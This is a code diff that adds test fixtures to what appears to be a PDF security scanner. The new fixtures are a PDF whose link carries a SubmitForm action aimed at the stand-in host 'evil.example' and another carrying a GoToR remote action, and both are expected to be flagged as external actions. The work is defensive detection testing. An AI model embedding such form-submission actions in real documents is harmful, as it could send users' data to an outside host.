@@ -74,6 +74,22 @@ fn pdfs() -> Vec<(&'static str, Vec<u8>, &'static str)> {
             "pdf_launch",
         ),
         (
+            "submit-form.pdf",
+            link_doing(
+                false,
+                dictionary! { "S" => "SubmitForm", "F" => Object::string_literal("https://evil.example/") },
+            ),
+            "pdf_external_action",
+        ),
+        (
+            "goto-remote-objstm.pdf",
+            link_doing(
+                true,
+                dictionary! { "S" => "GoToR", "F" => Object::string_literal("other.pdf") },
+            ),
+            "pdf_external_action",
+        ),
+        (
             "launch-objstm.pdf",
             link_doing(
                 true,
